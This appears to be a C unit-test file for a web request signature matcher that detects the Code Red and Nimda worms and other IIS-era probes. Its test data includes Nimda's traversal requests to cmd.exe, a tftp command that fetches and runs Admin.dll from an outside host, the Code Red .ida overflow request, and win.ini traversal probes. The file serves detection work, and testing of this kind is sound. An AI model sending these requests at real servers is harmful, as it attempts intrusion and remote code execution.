/* test_match.c - signature sets and the matcher, through wr_match.h */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <apr_general.h>
#include <apr_pools.h>
#include <apr_strings.h>

#include "test-lib.h"
#include "wr_match.h"

static apr_pool_t *pool;
static wr_sigset_t *builtin;

/* classify - family name for a request line under the builtin set's
 * default mask, "-" when nothing matches */
static int split_differs, split_lines;

static const char *classify(const char *line)
{
    wr_family_mask_t mask = wr_sigset_default_mask(builtin);
    wr_request_t req;
    wr_match_t m, m2, m3;
    int hit = wr_match_line(builtin, mask, line, strlen(line), &m), hit2,
        hit3;

    /* the request path's split: the prefilter once (wr_match_suspect),
     * then the match without it (wr_match_suspected), the same answer;
     * and the match alone, as the quick handler runs it once its pair
     * table has found a marked pair */
    wr_request_from_line(line, strlen(line), &req);
    hit2 = wr_match_suspect(builtin, mask, req.target, req.target_len,
                            req.method, req.method_len)
           && wr_match_suspected(builtin, mask, &req, &m2);
    hit3 = wr_match_suspected(builtin, mask, &req, &m3);
    split_lines++;
    if (hit != hit2 || (hit && (m.family != m2.family
                                || strcmp(m.name, m2.name) != 0))) {
        split_differs++;
        printf("# suspect + suspected differ from wr_match_line: %.60s\n", line);
    }
    if (hit != hit3 || (hit && (m.family != m3.family
                                || strcmp(m.name, m3.name) != 0))) {
        split_differs++;
        printf("# suspected alone differs from wr_match_line: %.60s\n", line);
    }
    if (hit) {
        return m.name;
    }
    check_int(m.family, -1, "no match leaves family -1: %.60s", line);
    return "-";
}

/* has - whether `s` contains `sub` (NULL-safe, for error messages) */
static int has(const char *s, const char *sub)
{
    return s != NULL && strstr(s, sub) != NULL;
}

/* test_builtin - the shipped set loads and has its three families */
static void test_builtin(void)
{
    const char *err = NULL;
    apr_status_t rv;
    wr_match_t m;

    wr_sigset_create(&builtin, pool);
    rv = wr_sigset_load_builtin(builtin, &err);
    check_int(rv, APR_SUCCESS, "builtin set loads (%s)", err ? err : "");
    check_int(wr_sigset_family_count(builtin), 3, "three families");
    check_str(wr_sigset_family_name(builtin, 0), "codered", "family 0");
    check_str(wr_sigset_family_name(builtin, 1), "nimda", "family 1");
    check_str(wr_sigset_family_name(builtin, 2), "iis", "family 2");
    check(wr_sigset_family_name(builtin, 3) == NULL, "family 3 is NULL");
    check(wr_sigset_family_name(builtin, -1) == NULL, "family -1 is NULL");
    check(has(wr_sigset_family_desc(builtin, 1), "CA-2001-26"),
          "nimda's description cites its advisory");
    check(wr_sigset_pattern_count(builtin) > 20, "%d patterns",
          wr_sigset_pattern_count(builtin));
    check_int(wr_sigset_default_mask(builtin), 7, "all three on by default");
    check_int(wr_sigset_all_mask(builtin), 7, "all mask");
    check_int(wr_sigset_family_index(builtin, "iis"), 2, "index of iis");
    check_int(wr_sigset_family_index(builtin, "slammer"), -1,
              "unknown family index");
    check(wr_match_line(builtin, 7, "GET /scripts/root.exe?/c+dir HTTP/1.0",
                        37, &m), "a match fills m");
    check(has(m.origin, "signatures.conf:"), "origin names the file: %s",
          m.origin ? m.origin : "(null)");
}

/* test_nimda_scan - the 16 requests of Nimda's scan (CERT CA-2001-26) */
static void test_nimda_scan(void)
{
    static const char *const urls[] = {
        "/scripts/root.exe?/c+dir",
        "/MSADC/root.exe?/c+dir",
        "/c/winnt/system32/cmd.exe?/c+dir",
        "/d/winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
        "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
        "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
        "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../"
            "winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir"
    };
    size_t i;

    for (i = 0; i < sizeof(urls) / sizeof(urls[0]); i++) {
        char line[256];
        snprintf(line, sizeof(line), "GET %s HTTP/1.0", urls[i]);
        check_str(classify(line), "nimda", "nimda scan %zu: %s", i + 1,
                  urls[i]);
    }
    check_int(i, 16, "sixteen scan requests");
    /* its follow-up on a host that answered: raw spaces in the line */
    check_str(classify("GET /scripts/root.exe?/c+tftp -i 192.0.2.1 GET "
                       "Admin.dll c:\\Admin.dll HTTP/1.0"), "nimda",
              "nimda tftp follow-up with raw spaces");
    /* httpd rejects that line and keeps only this much of it */
    check_str(classify("GET /scripts/root.exe?/c+tftp -i"), "nimda",
              "nimda tftp follow-up as httpd cuts it");
    check_str(classify("GET /scripts/..%c1%1c../winnt/system32/cmd.exe?"
                       "/c+tftp%20-i%20192.0.2.1%20GET%20Admin.dll%20"
                       "c:\\Admin.dll HTTP/1.0"), "nimda",
              "nimda tftp follow-up, encoded");
    check_str(classify("GET /scripts/Admin.dll HTTP/1.0"), "nimda",
              "nimda runs Admin.dll");
    check_str(classify("GET /Admin.dll HTTP/1.0"), "nimda",
              "nimda runs /Admin.dll");
    /* a norm pattern whose window is in the raw target runs first and
     * fails ("?/c+"); the next one's window ("admi") is only in the
     * decoded form, which must be scanned for it */
    check_str(classify("GET /%61dmin.dll?/c+dir HTTP/1.0"), "nimda",
              "encoded Admin.dll after a norm pattern that ran and failed");
}

/* codered_line - Code Red's request with `pad` as the filler */
static char *codered_line(char pad)
{
    char filler[225];

    memset(filler, pad, 224);
    filler[224] = '\0';
    return apr_pstrcat(pool, "GET /default.ida?", filler,
                       "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
                       "%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3"
                       "%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0",
                       NULL);
}

/* test_codered - Code Red I ('N') and II ('X') */
static void test_codered(void)
{
    check_str(classify(codered_line('N')), "codered", "Code Red I");
    check_str(classify(codered_line('X')), "codered", "Code Red II");
    /* a short .ida request is an IIS probe, not the worm */
    check_str(classify("GET /default.ida?NNNN HTTP/1.0"), "iis",
              "short .ida query is iis");
}

/* test_precision - requests that look a little like probes but are not */
static void test_precision(void)
{
    static const char *const legit[] = {
        "/scripts/jquery.min.js", "/blog/winnt-tips", "/search?q=cmd.exe",
        "/admin.dll.html", "/MSOffice/cltreq.asp",
        "/_vti_bin/owssvr.dll",
        "/scripts/python/wrap.py", "/files/lumberjack/lumberjack-0.3.0.exe",
        "/",
        /* issue 13: Office, IE and FrontPage clients' own requests */
        "/_vti_bin/owssvr.dll?UL=1&ACT=4&BUILD=6551&STRMVER=4&CAPREQ=0",
        "/MSOffice/cltreq.asp?UL=1&ACT=4&BUILD=6551&STRMVER=4&CAPREQ=0",
        "/foo/_vti_bin/owssvr.dll?UL=1&ACT=4&BUILD=6415&STRMVER=4&CAPREQ=0",
        "/_vti_inf.html", "/_vti_bin/shtml.dll/_vti_rpc",
        "/_vti_bin/shtml.exe/_vti_rpc", "/_vti_bin/owssvr.exe",
        /* queries that only mention the words */
        "/wiki/?title=System32", "/wiki/index.php?title=Windows/System32",
        "/search?q=../winnt+tips", "/?ref=../docs/windows/setup",
        "/search?q=root.exe+cmd.exe"
    };
    static const char *const fp_rpc[] = {
        "/_vti_bin/_vti_aut/author.dll", "/_vti_bin/_vti_aut/author.exe",
        "/_vti_bin/_vti_adm/admin.dll", "/_vti_bin/_vti_adm/admin.exe",
        "/sub/web/_vti_bin/_vti_aut/author.dll"
    };
    /* the same endpoints carrying what a probe carries, and worm-era
     * probes through the query string */
    static const char *const probes[] = {
        "/_vti_bin/shtml.exe/..%255c..%255cwinnt/system32/cmd.exe",
        "/_vti_bin/shtml.exe?/c+dir", "/_vti_bin/owssvr.dll?/c+dir",
        "/_vti_bin/..%255c../_vti_bin/shtml.dll",
        "/_vti_bin/shtml.dll/..%5c..%5cboot.ini",
        "/_vti_bin/_vti_aut/author.exe/../../x",
        "/_vti_bin/_vti_aut%2fauthor.exe", "/_vti_bin/owssvr.dll%c0%af",
        "/_vti_bin/x.dll", "/_vti_bin/_vti_aut/fp30reg.dll",
        "/?..?..?../winnt/system32/cmd.exe?/c+dir",
        "/internal.sws?../../winnt/win.ini",
        "/cgi-bin/search.cgi?..\\..\\..\\winnt\\win.ini",
        "/x.cgi?a=1&file=../../../../windows/win.ini%00",
        "/x.cgi?..%5c..%5cwinnt%5cwin.ini",
        "/index.php?download=/winnt/win.ini"
    };
    size_t i;

    for (i = 0; i < sizeof(legit) / sizeof(legit[0]); i++) {
        char line[256];
        snprintf(line, sizeof(line), "GET %s HTTP/1.1", legit[i]);
        check_str(classify(line), "-", "not a probe: %s", legit[i]);
        check_str(classify(legit[i]), "-", "not a probe (bare): %s",
                  legit[i]);
    }
    check_str(classify("OPTIONS /_vti_bin/owssvr.dll HTTP/1.1"), "-",
              "Office's OPTIONS is not a probe");
    /* FrontPage's programs, called by POST as its clients do; a GET or
     * HEAD of them is a scanner's */
    for (i = 0; i < sizeof(fp_rpc) / sizeof(fp_rpc[0]); i++) {
        char line[256];
        snprintf(line, sizeof(line), "POST %s HTTP/1.1", fp_rpc[i]);
        check_str(classify(line), "-", "FrontPage's POST: %s", fp_rpc[i]);
        check_str(classify(fp_rpc[i]), "-", "not a probe (bare): %s",
                  fp_rpc[i]);
        snprintf(line, sizeof(line), "GET %s HTTP/1.0", fp_rpc[i]);
        check_str(classify(line), "iis", "a GET: %s", fp_rpc[i]);
        snprintf(line, sizeof(line), "HEAD %s HTTP/1.0", fp_rpc[i]);
        check_str(classify(line), "iis", "a HEAD: %s", fp_rpc[i]);
    }
    for (i = 0; i < sizeof(probes) / sizeof(probes[0]); i++) {
        char line[256];
        snprintf(line, sizeof(line), "GET %s HTTP/1.1", probes[i]);
        check_str(classify(line), "iis", "a probe: %s", probes[i]);
    }
    /* FrontPage's admin.dll is not Nimda's Admin.dll; Nimda's still is */
    check_str(classify("GET /_vti_bin/_vti_adm/admin.dll HTTP/1.0"), "iis",
              "FrontPage admin.dll: a scanner's GET, not Nimda");
    check_str(classify("GET /c/admin.dll HTTP/1.0"), "nimda", "/c/Admin.dll");
    check_str(classify("GET /scripts/..%255c../admin.dll HTTP/1.0"), "nimda",
              "Admin.dll by traversal");
}

/* test_iis - other IIS-era probes go to the broad family */
static void test_iis(void)
{
    char search[400];

    check_str(classify("GET /scripts/root.exe?/c+dir HTTP/1.1"), "iis",
              "root.exe probe as HTTP/1.1 is not Nimda");
    check_str(classify("GET /scripts/root.exe?/c+dir"), "iis",
              "root.exe probe as HTTP/0.9 is not Nimda");
    check_str(classify("get /scripts/root.exe?/c+dir HTTP/1.0"), "iis",
              "root.exe probe with lowercase get is not Nimda");
    check_str(classify("GET /NULL.printer HTTP/1.0"), "iis", ".printer");
    check_str(classify("GET /scripts/nsiislog.dll HTTP/1.1"), "iis",
              "nsiislog.dll");
    check_str(classify("GET /msadc/msadcs.dll HTTP/1.0"), "iis", "msadcs.dll");
    check_str(classify("POST /_vti_bin/_vti_aut/fp30reg.dll HTTP/1.1"), "iis",
              "fp30reg.dll");
    memset(search, 'A', sizeof(search));
    memcpy(search, "SEARCH /", 8);
    strcpy(search + 8 + 300, " HTTP/1.1");
    check_str(classify(search), "iis", "SEARCH with a 300-byte target");
    strcpy(search + 8 + 20, " HTTP/1.1");
    check_str(classify(search), "-", "SEARCH with a short target");
}

/* test_target_only - without a line, line patterns do not apply */
static void test_target_only(void)
{
    wr_request_t req;
    wr_match_t m;

    req.target = "/scripts/root.exe?/c+dir";
    req.target_len = strlen(req.target);
    req.line = NULL;
    req.line_len = 0;
    req.method = NULL;
    req.method_len = 0;
    check(wr_match_request(builtin, wr_sigset_default_mask(builtin), &req,
                           &m), "bare root.exe target matches");
    check_str(m.name, "iis", "without a line it is iis, not nimda");
    req.line = "GET /scripts/root.exe?/c+dir HTTP/1.0";
    req.line_len = strlen(req.line);
    check(wr_match_request(builtin, wr_sigset_default_mask(builtin), &req,
                           &m), "with its line");
    check_str(m.name, "nimda", "with the line it is nimda");
    check(!wr_match_request(builtin, 0, &req, &m), "empty mask: no match");
    check_int(m.family, -1, "empty mask: family -1");
    check(m.name == NULL && m.origin == NULL, "empty mask: name, origin NULL");
}

/* new_set - an empty set, checked */
static wr_sigset_t *new_set(void)
{
    wr_sigset_t *set = NULL;

    check_int(wr_sigset_create(&set, pool), APR_SUCCESS, "create a set");
    return set;
}

/* test_order_and_mask - the first declared family wins; a family off in
 * the mask never matches */
static void test_order_and_mask(void)
{
    wr_sigset_t *set = new_set();
    const char *err = NULL;
    wr_match_t m;

    check_int(wr_sigset_declare_family(set, "broad", 1, "any exe", &err),
              APR_SUCCESS, "declare broad first");
    check_int(wr_sigset_add(set, "narrow", WR_SUBJ_NORM, "/tool\\.exe",
                            "t:1", &err), APR_SUCCESS,
              "add narrow (declared by use)");
    check_int(wr_sigset_add(set, "broad", WR_SUBJ_NORM, "\\.exe", "t:2", &err),
              APR_SUCCESS, "add broad after narrow");
    check(wr_match_line(set, wr_sigset_all_mask(set), "GET /tool.exe", 13, &m),
          "both families match /tool.exe");
    check_str(m.name, "broad", "the first declared family wins");
    check_str(m.origin, "t:2", "origin of the winning pattern");
    check(wr_match_line(set, 1u << 1, "GET /tool.exe", 13, &m),
          "mask with narrow only");
    check_str(m.name, "narrow", "a family off in the mask is skipped");
    check(!wr_match_line(set, 1u << 1, "GET /other.exe", 14, &m),
          "narrow alone does not match /other.exe");
    check(!wr_match_line(set, 1u << 5, "GET /tool.exe", 13, &m),
          "mask bits beyond the families match nothing");

    /* a family declared off is out of the default mask */
    check_int(wr_sigset_declare_family(set, "quiet", 0, NULL, &err),
              APR_SUCCESS, "declare quiet off");
    check_int(wr_sigset_add(set, "quiet", WR_SUBJ_RAW, "^/hush", "t:3", &err),
              APR_SUCCESS, "add to quiet");
    check_int(wr_sigset_default_mask(set), 3, "quiet not in default mask");
    check_int(wr_sigset_all_mask(set), 7, "quiet in the all mask");
    check(!wr_match_line(set, wr_sigset_default_mask(set), "GET /hush", 9,
                         &m), "an off family does not match by default");
    check(wr_match_line(set, wr_sigset_all_mask(set), "GET /hush", 9, &m)
          && !strcmp(m.name, "quiet"), "it matches when switched on");
    /* re-declaring updates the default */
    wr_sigset_declare_family(set, "quiet", 1, "now on", &err);
    check_int(wr_sigset_default_mask(set), 7, "re-declared on");
    check_str(wr_sigset_family_desc(set, 2), "now on", "description updated");

    /* the builtin set with codered switched off: Code Red falls to iis */
    {
        wr_family_mask_t mask = wr_sigset_default_mask(builtin)
            & ~((wr_family_mask_t)1 << wr_sigset_family_index(builtin,
                                                              "codered"));
        const char *l = codered_line('N');
        check(wr_match_line(builtin, mask, l, strlen(l), &m),
              "Code Red without the codered family still matches");
        check_str(m.name, "iis", "... as iis");
        mask &= ~((wr_family_mask_t)1 << wr_sigset_family_index(builtin,
                                                                "iis"));
        check(!wr_match_line(builtin, mask, l, strlen(l), &m),
              "and with iis off as well, nothing");
    }
}

/* test_subjects - raw is case-sensitive and undecoded, norm is decoded
 * and caseless, line sees the method */
static void test_subjects(void)
{
    wr_sigset_t *set = new_set();
    const char *err = NULL;
    wr_subject_t s;
    wr_match_t m;

    check_int(wr_subject_parse("norm", &s), APR_SUCCESS, "parse norm");
    check_int(s, WR_SUBJ_NORM, "norm");
    check_int(wr_subject_parse("raw", &s), APR_SUCCESS, "parse raw");
    check_int(s, WR_SUBJ_RAW, "raw");
    check_int(wr_subject_parse("line", &s), APR_SUCCESS, "parse line");
    check_int(s, WR_SUBJ_LINE, "line");
    check_int(wr_subject_parse("Norm", &s), APR_EINVAL, "Norm is not norm");
    check_int(wr_subject_parse("", &s), APR_EINVAL, "empty subject");

    wr_sigset_add(set, "rawfam", WR_SUBJ_RAW, "^/Enc%41x", "t:1", &err);
    wr_sigset_add(set, "normfam", WR_SUBJ_NORM, "^/deep/x\\.bin$", "t:2", &err);
    wr_sigset_add(set, "linefam", WR_SUBJ_LINE, "^BREW /pot", "t:3", &err);
    check(wr_match_line(set, 7, "GET /Enc%41x HTTP/1.0", 21, &m)
          && !strcmp(m.name, "rawfam"), "raw sees the encoded target");
    check(!wr_match_line(set, 1, "GET /enc%41x HTTP/1.0", 21, &m),
          "raw is case-sensitive");
    check(wr_match_line(set, 2, "GET /DEEP%255cX.BIN HTTP/1.0", 28, &m),
          "norm sees the decoded, lower-cased target");
    check(!wr_match_line(set, 2, "GET /deep/x.bin.old HTTP/1.0", 28, &m),
          "norm anchors at the end of the target, not the line");
    check(wr_match_line(set, 4, "BREW /pot HTTP/1.1", 18, &m),
          "line sees the method");
    check(!wr_match_line(set, 4, "GET /pot HTTP/1.1", 17, &m),
          "line pattern needs its method");
}

/* test_prefilter_off - a family with no 4-byte literal still matches */
static void test_prefilter_off(void)
{
    wr_sigset_t *set = new_set();
    const char *err = NULL;
    wr_match_t m;

    check_int(wr_sigset_load_builtin(set, &err), APR_SUCCESS, "builtin");
    check_int(wr_sigset_add(set, "short", WR_SUBJ_RAW, "^/x.y$", "t:1", &err),
              APR_SUCCESS, "add ^/x.y$ (no literal of 4 bytes)");
    check(wr_match_line(set, wr_sigset_all_mask(set), "GET /xzy HTTP/1.0",
                        17, &m), "/xzy matches");
    check_str(m.name, "short", "... in family short");
    check(wr_match_line(set, wr_sigset_all_mask(set), "/x.y", 4, &m),
          "bare /x.y matches");
    check(!wr_match_line(set, wr_sigset_all_mask(set), "GET /xzzy HTTP/1.0",
                         18, &m), "/xzzy does not");
    /* the other families keep their prefilter: an ordinary request is
     * still no match and a probe still is one */
    check(!wr_match_line(set, 7, "GET /index.html HTTP/1.0", 24, &m),
          "ordinary request, builtin families only");
    check(wr_match_line(set, wr_sigset_all_mask(set),
                        "GET /scripts/root.exe?/c+dir HTTP/1.0", 37, &m)
          && !strcmp(m.name, "nimda"), "nimda still first");

    /* literals shorter than 4 bytes or hidden in groups and classes */
    set = new_set();
    wr_sigset_add(set, "alt", WR_SUBJ_NORM, "ab|cd", "t:1", &err);
    wr_sigset_add(set, "grp", WR_SUBJ_NORM, "^/(?:qqqqq)", "t:2", &err);
    wr_sigset_add(set, "opt", WR_SUBJ_NORM, "^/zzzz?$", "t:3", &err);
    wr_sigset_add(set, "cls", WR_SUBJ_NORM, "^/[k]{4}$", "t:4", &err);
    check(wr_match_line(set, 1, "GET /cd", 7, &m), "top-level alternation");
    check(wr_match_line(set, 2, "GET /qqqqq", 10, &m), "literal in a group");
    check(wr_match_line(set, 4, "GET /zzz", 8, &m), "optional last byte");
    check(wr_match_line(set, 8, "GET /kkkk", 9, &m), "class repeated");
}

/* test_add_errors - compile errors carry origin, message and offset */
static void test_add_errors(void)
{
    wr_sigset_t *set = new_set();
    const char *err = NULL;

    check_int(wr_sigset_add(set, "x", WR_SUBJ_NORM, "a(b", "conf/my.conf:7",
                            &err), APR_EINVAL, "a(b does not compile");
    check(has(err, "conf/my.conf:7: "), "message starts with the origin: %s",
          err ? err : "(null)");
    check(has(err, "missing closing parenthesis"), "PCRE2's message");
    check(has(err, "offset 3"), "offset in the message");
    check(has(err, "'a(b'"), "the pattern in the message");
    check_int(wr_sigset_pattern_count(set), 0, "nothing added");
    err = NULL;
    check_int(wr_sigset_add(set, "x", WR_SUBJ_RAW, "x{2,1}", "o", &err),
              APR_EINVAL, "x{2,1} does not compile");
    check(has(err, "offset"), "offset again: %s", err ? err : "(null)");
}

/* test_family_names - names are checked, the table is bounded */
static void test_family_names(void)
{
    static const char *const bad[] = {
        "", "Nimda", "a b", "x/y", "tab\there", "dot.name",
        "abcdefghijklmnopqrstuvwxyz012345"   /* 32 characters */
    };
    wr_sigset_t *set = new_set();
    const char *err;
    size_t i;
    int f;

    for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        err = NULL;
        check_int(wr_sigset_declare_family(set, bad[i], 1, NULL, &err),
                  APR_EINVAL, "bad family name '%s'", bad[i]);
        check(has(err, "invalid family name"), "message: %s",
              err ? err : "(null)");
        err = NULL;
        check_int(wr_sigset_add(set, bad[i], WR_SUBJ_NORM, "abcd", "o", &err),
                  APR_EINVAL, "add to bad family '%s'", bad[i]);
    }
    check_int(wr_sigset_family_count(set), 0, "no family declared");
    check_int(wr_sigset_declare_family(set, "abcdefghijklmnopqrstuvwxyz01234",
                                       1, NULL, &err), APR_SUCCESS,
              "31 characters is fine");
    check_int(wr_sigset_declare_family(set, "a-b_0", 1, NULL, &err),
              APR_SUCCESS, "'-', '_' and digits are fine");

    set = new_set();
    for (f = 0; f < WR_MAX_FAMILIES; f++) {
        char name[16];
        snprintf(name, sizeof(name), "f%d", f);
        if (wr_sigset_add(set, name, WR_SUBJ_RAW,
                          apr_psprintf(pool, "^/only%d$", f), "o", &err)
            != APR_SUCCESS) {
            break;
        }
    }
    check_int(f, WR_MAX_FAMILIES, "WR_MAX_FAMILIES families fit");
    check_int(wr_sigset_all_mask(set), 0xFFFFFFFFu, "all mask of 32");
    err = NULL;
    check_int(wr_sigset_declare_family(set, "onemore", 1, NULL, &err),
              APR_ENOSPC, "one more family: APR_ENOSPC");
    check(has(err, "too many families"), "message: %s", err ? err : "(null)");
    check_int(wr_sigset_add(set, "onemore", WR_SUBJ_RAW, "^/x", "o", &err),
              APR_ENOSPC, "adding to one more family: APR_ENOSPC");
    check_int(wr_sigset_declare_family(set, "f3", 0, NULL, &err), APR_SUCCESS,
              "re-declaring an existing one still works when full");
    {
        wr_match_t m;
        char line[32];
        int n = snprintf(line, sizeof(line), "GET /only%d", WR_MAX_FAMILIES - 1);
        check(wr_match_line(set, wr_sigset_all_mask(set), line, (size_t)n,
                            &m), "the last family matches");
        check_int(m.family, WR_MAX_FAMILIES - 1, "... as the last index");
        check(!wr_match_line(set, wr_sigset_all_mask(set) & ~(1u << 31),
                             line, (size_t)n, &m), "bit 31 off: no match");
    }
}

/* load - load a buffer into a fresh set, return the status */
static apr_status_t load(const char *text, const char **err)
{
    wr_sigset_t *set = new_set();

    *err = NULL;
    return wr_sigset_load_buffer(set, text, strlen(text), "buf", err);
}

/* test_load_buffer - the file format and its errors */
static void test_load_buffer(void)
{
    static const char good[] =
        "# comment\n"
        "\n"
        "family first off  The first family\r\n"
        "  first raw  ^/one two$  \n"
        "second line ^POST /two\n"
        "\tsecond\tnorm\t\\.three$\n";
    wr_sigset_t *set = new_set();
    const char *err = NULL;
    wr_match_t m;

    check_int(wr_sigset_load_buffer(set, good, sizeof(good) - 1, "buf", &err),
              APR_SUCCESS, "good buffer loads (%s)", err ? err : "");
    check_int(wr_sigset_family_count(set), 2, "two families");
    check_int(wr_sigset_pattern_count(set), 3, "three patterns");
    check_str(wr_sigset_family_desc(set, 0), "The first family",
              "description is the rest of the line");
    check_int(wr_sigset_default_mask(set), 2, "first off, second on");
    check(wr_match_line(set, 3, "GET /one two HTTP/1.0", 21, &m),
          "pattern keeps inner spaces, trailing blanks dropped");
    check_str(m.origin, "buf:4", "origin is name:line");
    check(wr_match_line(set, 3, "POST /two HTTP/1.0", 18, &m)
          && !strcmp(m.origin, "buf:5"), "line subject from a file");
    check(wr_match_line(set, 3, "GET /A.THREE", 12, &m)
          && !strcmp(m.origin, "buf:6"), "tabs separate fields");

    check_int(load("# c\n\nnimda norm\n", &err), APR_EINVAL,
              "missing pattern");
    check(has(err, "buf:3: ") && has(err, "expected 'FAMILY norm|raw|line"),
          "missing pattern names buf:3: %s", err ? err : "(null)");
    check_int(load("nimda\n", &err), APR_EINVAL, "missing subject");
    check(has(err, "buf:1: "), "missing subject names buf:1: %s",
          err ? err : "(null)");
    check_int(load("x norm abcd\nnimda body \\.exe\n", &err), APR_EINVAL,
              "unknown subject");
    check(has(err, "buf:2: "), "unknown subject names buf:2: %s",
          err ? err : "(null)");
    check_int(load("family x maybe\n", &err), APR_EINVAL,
              "family line without on|off");
    check(has(err, "buf:1: expected 'family NAME on|off"),
          "bad family line: %s", err ? err : "(null)");
    check_int(load("\n\nfamily\n", &err), APR_EINVAL, "bare 'family'");
    check(has(err, "buf:3: "), "bare family names buf:3: %s",
          err ? err : "(null)");
    check_int(load("family Bad on\n", &err), APR_EINVAL, "bad family name");
    check(has(err, "buf:1: ") && has(err, "invalid family name"),
          "bad family name in a file: %s", err ? err : "(null)");
    check_int(load("ok raw abcd\nok raw a(b\n", &err), APR_EINVAL,
              "bad regex in a file");
    check(has(err, "buf:2: ") && has(err, "offset 3"),
          "bad regex names buf:2 and the offset: %s", err ? err : "(null)");
    check(err != NULL && strncmp(err, "buf:2: buf:2", 12) != 0,
          "origin not repeated");

    /* loading stops at the first error; what came before is kept */
    set = new_set();
    {
        static const char mid[] = "a raw abcd\nb bad x\nc raw efgh\n";
        check_int(wr_sigset_load_buffer(set, mid, sizeof(mid) - 1, "buf",
                                        &err), APR_EINVAL,
                  "error in the middle");
    }
    check_int(wr_sigset_pattern_count(set), 1, "stopped at the first error");
    check_int(wr_sigset_family_index(set, "c"), -1, "line 3 not read");

    check_int(load("", &err), APR_SUCCESS, "empty buffer");
    check_int(load("# only\n# comments", &err), APR_SUCCESS, "only comments");
    check_int(load("x raw no-newline-at-end", &err), APR_SUCCESS,
              "last line without newline");
}

/* test_family_attrs - KEY=VALUE attributes on a family line, their
 * defaults, errors with name:line, and the API others read them through */
static void test_family_attrs(void)
{
    static const char good[] =
        "family sure on confidence=certain The worm itself\n"
        "family maybe off confidence=likely\tA shape a client could send\n"
        "family look on confidence=recon\n"
        "family plain on Plain description = with an equals sign\n"
        "used raw ^/used\n";
    wr_sigset_t *set = new_set();
    const char *err = NULL;
    int f;

    check_int(wr_family_key_index("confidence"), 0, "confidence is key 0");
    check_int(wr_family_key_index("nosuch"), -1, "unknown key index");
    check(wr_family_key_name(wr_family_key_count()) == NULL,
          "key name out of range");
    check_int(wr_sigset_load_buffer(set, good, sizeof(good) - 1, "buf", &err),
              APR_SUCCESS, "attributes load (%s)", err ? err : "");
    check_str(wr_sigset_family_attr(set, 0, "confidence"), "certain",
              "sure: certain");
    check_str(wr_sigset_family_desc(set, 0), "The worm itself",
              "the description follows the attributes");
    check_int(wr_sigset_family_confidence(set, 1), WR_CONFIDENCE_LIKELY,
              "maybe: likely");
    check_str(wr_sigset_family_desc(set, 1), "A shape a client could send",
              "a tab separates attributes and description");
    check_int(wr_sigset_default_mask(set) & 2, 0, "maybe stays off");
    check_int(wr_sigset_family_confidence(set, 2), WR_CONFIDENCE_RECON,
              "look: recon");
    check(wr_sigset_family_desc(set, 2) == NULL, "no description");
    check_str(wr_sigset_family_attr(set, 3, "confidence"), "certain",
              "plain: the default, certain");
    check_str(wr_sigset_family_desc(set, 3),
              "Plain description = with an equals sign",
              "an '=' inside the description is text");
    f = wr_sigset_family_index(set, "used");
    check_int(wr_sigset_family_confidence(set, f), WR_CONFIDENCE_CERTAIN,
              "declared by use: certain");
    check(wr_sigset_family_attr(set, 0, "nosuch") == NULL, "unknown key");
    check(wr_sigset_family_attr(set, 9, "confidence") == NULL,
          "unknown family");
    check_int(wr_sigset_family_confidence(set, 9), WR_CONFIDENCE_CERTAIN,
              "unknown family: certain");

    /* re-declaring changes the attributes it names, keeps the rest */
    check_int(wr_sigset_load_buffer(set, "family maybe on\n", 16, "again",
                                    &err), APR_SUCCESS, "re-declared");
    check_int(wr_sigset_family_confidence(set, 1), WR_CONFIDENCE_LIKELY,
              "re-declaring without the key keeps it");
    check_int(wr_sigset_family_set_attr(set, 1, "confidence", "recon", &err),
              APR_SUCCESS, "set through the API");
    check_int(wr_sigset_family_confidence(set, 1), WR_CONFIDENCE_RECON,
              "the parsed value follows");
    check_int(wr_sigset_family_set_attr(set, 1, "confidence", "sure", &err),
              APR_EINVAL, "API: bad value");
    check_int(wr_sigset_family_confidence(set, 1), WR_CONFIDENCE_RECON,
              "a refused value changes nothing");
    check_int(wr_sigset_family_set_attr(set, 1, "colour", "red", &err),
              APR_ENOENT, "API: unknown key");
    check_int(wr_sigset_family_set_attr(set, 42, "confidence", "recon", &err),
              APR_ENOENT, "API: unknown family");

    check_int(load("# c\nfamily x on colour=red The X\n", &err), APR_ENOENT,
              "unknown key refused");
    check(has(err, "buf:2: unknown family attribute 'colour'")
          && has(err, "known: confidence"), "unknown key names buf:2: %s",
          err ? err : "(null)");
    check_int(load("family x on confidence=high\n", &err), APR_EINVAL,
              "bad value refused");
    check(has(err, "buf:1: ") && has(err, "'high' is not one of certain|"
                                          "likely|recon"),
          "bad value: %s", err ? err : "(null)");
    check_int(load("family x on confidence=\n", &err), APR_EINVAL,
              "empty value refused");
    {
        wr_sigset_t *s2 = new_set();
        check_int(wr_sigset_load_buffer(s2, "family y on confidence=recon "
                                        "bogus=1\n", 36, "buf", &err),
                  APR_ENOENT, "a bad second attribute");
        check_int(wr_sigset_family_index(s2, "y"), -1,
                  "a refused line declares nothing");
    }
    check_int(load("family x on Confidence=recon\n", &err), APR_SUCCESS,
              "an upper-case word starts the description");

    check_int(wr_sigset_family_confidence(builtin, 0), WR_CONFIDENCE_CERTAIN,
              "codered is certain");
    check_int(wr_sigset_family_confidence(builtin, 1), WR_CONFIDENCE_CERTAIN,
              "nimda is certain");
    check(wr_sigset_family_confidence(builtin, 2) != WR_CONFIDENCE_CERTAIN,
          "iis is less than certain");
    check_str(wr_confidence_name(WR_CONFIDENCE_LIKELY), "likely",
              "confidence name");
}

